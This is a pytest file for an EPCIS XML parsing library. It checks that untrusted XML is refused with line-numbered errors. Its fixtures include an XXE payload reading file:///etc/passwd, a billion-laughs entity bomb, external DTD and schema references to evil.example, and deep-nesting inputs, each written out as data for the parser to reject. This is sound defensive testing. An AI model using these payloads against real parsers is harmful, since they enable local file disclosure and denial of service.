"""Untrusted XML: entities, DTDs, nesting, size, broken input, wrong roots.

Every check must fail fast with a clear DocumentError that names a line.
"""

from __future__ import annotations

import io
from collections.abc import Callable, Iterator
from pathlib import Path

import pytest

from epcis.problems import DocumentError, Problem
from epcis.xmlbinding import parse_xml, read_xml
from epcis.xmlbinding.safe import CHUNK_SIZE
from epcis.xmlbinding.xsd import load_schema
from tests.conftest import EXAMPLES

GIGABYTE = 1024**3
EXAMPLE = (
    EXAMPLES
    / "xml"
    / "2.0"
    / "WithFullCombinationOfFields"
    / "object_event_all_possible_fields.xml"
)


def _refused(data: object, **limits: int) -> Problem:
    with pytest.raises(DocumentError) as caught:
        read_xml(data, **limits)  # type: ignore[arg-type]
    problem = caught.value.problems[0]
    assert problem.line is not None and problem.line >= 1, problem
    assert str(problem.line) in str(caught.value)
    return problem


XXE = b"""<?xml version="1.0"?>
<!DOCTYPE epcis:EPCISDocument [
  <!ENTITY xxe SYSTEM "file:///etc/passwd">
]>
<epcis:EPCISDocument xmlns:epcis="urn:epcglobal:epcis:xsd:2" schemaVersion="2.0"
  creationDate="2024-01-01T00:00:00Z"><EPCISBody><EventList><ObjectEvent>
  <eventTime>2024-01-01T00:00:00Z</eventTime><eventTimeZoneOffset>+00:00</eventTimeZoneOffset>
  <action>OBSERVE</action><bizStep>&xxe;</bizStep>
</ObjectEvent></EventList></EPCISBody></epcis:EPCISDocument>"""


def _billion_laughs() -> bytes:
    lines = [b'<?xml version="1.0"?>', b"<!DOCTYPE lolz [", b'  <!ENTITY lol "lol">']
    for i in range(1, 10):
        previous = b"&lol;" if i == 1 else b"&lol%d;" % (i - 1)
        lines.append(b'  <!ENTITY lol%d "%s">' % (i, previous * 10))
    lines += [b"]>", b"<lolz>&lol9;</lolz>"]
    return b"\n".join(lines)


def test_xxe_is_refused() -> None:
    problem = _refused(XXE)
    assert problem.rule == "xml-security"
    assert problem.line == 3
    assert "entity" in problem.message


def test_xxe_in_utf16_is_refused_too() -> None:
    # The byte scan for "<!ENTITY" cannot see UTF-16; the DTD check after parsing does.
    data = XXE.replace(b'<?xml version="1.0"?>', b'<?xml version="1.0" encoding="UTF-16"?>')
    problem = _refused(data.decode().encode("utf-16"))
    assert problem.rule == "xml-security"
    assert "passwd" not in problem.message


def test_billion_laughs_is_refused_quickly() -> None:
    problem = _refused(_billion_laughs())
    assert problem.rule == "xml-security"
    assert problem.line == 3


def test_billion_laughs_in_utf16_is_refused_quickly() -> None:
    data = _billion_laughs().replace(
        b'<?xml version="1.0"?>', b'<?xml version="1.0" encoding="UTF-16"?>'
    )
    problem = _refused(data.decode().encode("utf-16"))
    assert problem.rule == "xml-security"


@pytest.mark.parametrize(
    "doctype",
    [
        b'<!DOCTYPE epcis:EPCISDocument SYSTEM "http://evil.example/epcis.dtd">',
        b'<!DOCTYPE epcis:EPCISDocument PUBLIC "-//X//Y" "file:///etc/passwd">',
        b'<!DOCTYPE x [ <!ENTITY % remote SYSTEM "http://evil.example/x.dtd"> %remote; ]>',
    ],
)
def test_external_dtds_are_refused(doctype: bytes) -> None:
    data = b'<?xml version="1.0"?>\n' + doctype + b"\n" + EXAMPLE.read_bytes().split(b"\n", 2)[2]
    problem = _refused(data)
    assert problem.rule == "xml-security"


def test_a_bare_doctype_is_accepted() -> None:
    assert b"<!DOCTYPE project>" in EXAMPLE.read_bytes()
    result = read_xml(EXAMPLE.read_bytes())
    assert result.document["epcisBody"]["eventList"][0]["type"] == "ObjectEvent"


@pytest.mark.parametrize("depth", [1_000, 100_000])
def test_deep_nesting_is_refused_quickly(depth: int) -> None:
    data = b"<a>\n" * depth + b"</a>" * depth
    problem = _refused(data)
    assert problem.rule == "xml-security"
    assert problem.message.startswith("nesting deeper than 256 at line 257")
    assert problem.line == 257


def test_depth_limit_is_configurable() -> None:
    data = EXAMPLE.read_bytes()
    problem = _refused(data, max_depth=5)
    assert problem.rule == "xml-security"
    assert problem.message.startswith("nesting deeper than 5 at line ")
    assert problem.path is not None and problem.path.count("/") == 6
    assert read_xml(data, max_depth=12).document


class _EndlessStream(io.RawIOBase):
    """A stream that would be 1 GB if read whole; counts the bytes pulled from it."""

    HEAD = b'<epcis:EPCISDocument xmlns:epcis="urn:epcglobal:epcis:xsd:2">\n'
    PATTERN = b"<x>padding</x>\n"

    def __init__(self) -> None:
        self.pulled = 0

    def readable(self) -> bool:
        return True

    def readinto(self, buffer: bytearray) -> int:  # type: ignore[override]
        if self.pulled >= GIGABYTE:
            return 0
        if self.pulled == 0:
            chunk = self.HEAD
        else:  # continue the repeating pattern exactly where the last read stopped
            offset = (self.pulled - len(self.HEAD)) % len(self.PATTERN)
            repeats = len(buffer) // len(self.PATTERN) + 2
            chunk = (self.PATTERN * repeats)[offset : offset + len(buffer)]
        chunk = chunk[: len(buffer)]
        buffer[: len(chunk)] = chunk
        self.pulled += len(chunk)
        return len(chunk)


def test_an_oversized_stream_is_refused_after_reading_little() -> None:
    stream = _EndlessStream()
    problem = _refused(stream, max_bytes=1_000_000)
    assert problem.rule == "size-limit"
    assert "1000000 bytes" in problem.message
    assert stream.pulled <= 1_000_000 + CHUNK_SIZE


def test_an_oversized_generator_is_refused_after_reading_little() -> None:
    pulled = 0

    def chunks() -> Iterator[bytes]:
        nonlocal pulled
        yield b'<epcis:EPCISDocument xmlns:epcis="urn:epcglobal:epcis:xsd:2">\n'
        while pulled < GIGABYTE:
            chunk = b"<x>padding</x>\n" * 1000
            pulled += len(chunk)
            yield chunk

    problem = _refused(chunks(), max_bytes=500_000)
    assert problem.rule == "size-limit"
    assert pulled <= 500_000 + 15_000


def test_oversized_bytes_are_refused() -> None:
    data = EXAMPLE.read_bytes()
    problem = _refused(data, max_bytes=len(data) - 1)
    assert problem.rule == "size-limit"
    assert read_xml(data, max_bytes=len(data)).document


@pytest.mark.parametrize("fraction", [0.1, 0.5, 0.9, 0.999])
def test_truncated_documents_are_syntax_errors(fraction: float) -> None:
    data = EXAMPLE.read_bytes()
    cut = data[: int(len(data) * fraction)]
    problem = _refused(cut)
    assert problem.rule == "xml-syntax"
    assert "column" in problem.message
    assert problem.line is not None and 1 <= problem.line <= cut.count(b"\n") + 1


@pytest.mark.parametrize(
    "data",
    [
        b"\x89PNG\r\n\x1a\n\x00\x00\x00\rIHDR",
        bytes(range(256)),
        b'{"type": "EPCISDocument"}',
        b"",
        b"   \n  ",
        b"<a><b></a>",
        b"<a>\n</b>",
    ],
    ids=["png", "binary", "json", "empty", "blank", "mismatch", "stray-end-tag"],
)
def test_non_xml_is_a_syntax_error_with_a_line(data: bytes) -> None:
    problem = _refused(data)
    assert problem.rule == "xml-syntax"


@pytest.mark.parametrize(
    ("data", "expected"),
    [
        (b"<html><body/></html>", "root element is <html>"),
        (b'<EPCISDocument schemaVersion="2.0"/>', "has no namespace"),
        (b'<x:EPCISDocument xmlns:x="urn:something:else"/>', "{urn:something:else}EPCISDocument"),
        (
            b'<epcis:EPCISCaptureJob xmlns:epcis="urn:epcglobal:epcis:xsd:2" running="true"/>',
            "capture job",
        ),
    ],
)
def test_wrong_roots_are_refused(data: bytes, expected: str) -> None:
    problem = _refused(data)
    assert problem.rule == "epcis-root"
    assert expected in problem.message
    assert problem.line == 1


def test_text_input_is_a_type_error() -> None:
    with pytest.raises(TypeError):
        parse_xml("<a/>")  # type: ignore[arg-type]


def test_the_parser_accepts_streams_and_chunks() -> None:
    data = EXAMPLE.read_bytes()
    expected = read_xml(data).document
    assert read_xml(io.BytesIO(data)).document == expected
    pieces = [data[i : i + 7] for i in range(0, len(data), 7)]
    assert read_xml(iter(pieces)).document == expected


@pytest.mark.parametrize(
    "make",
    [
        lambda folder: '<xsd:import namespace="urn:b" schemaLocation="http://evil.example/b.xsd"/>',
        lambda folder: f'<xsd:import namespace="urn:b" schemaLocation="{folder.parent}/b.xsd"/>',
    ],
    ids=["network", "outside-folder"],
)
def test_schema_imports_never_leave_the_schema_folder(
    tmp_path: Path, make: Callable[[Path], str]
) -> None:
    folder = tmp_path / "xsd"
    folder.mkdir()
    (tmp_path / "b.xsd").write_text(
        '<xsd:schema xmlns:xsd="http://www.w3.org/2001/XMLSchema" targetNamespace="urn:b"/>'
    )
    schema = folder / "a.xsd"
    schema.write_text(
        '<xsd:schema xmlns:xsd="http://www.w3.org/2001/XMLSchema" targetNamespace="urn:a">'
        f"{make(folder)}<xsd:element name='a' type='xsd:string'/></xsd:schema>"
    )
    with pytest.raises(DocumentError, match="refers outside its folder"):
        load_schema(schema)
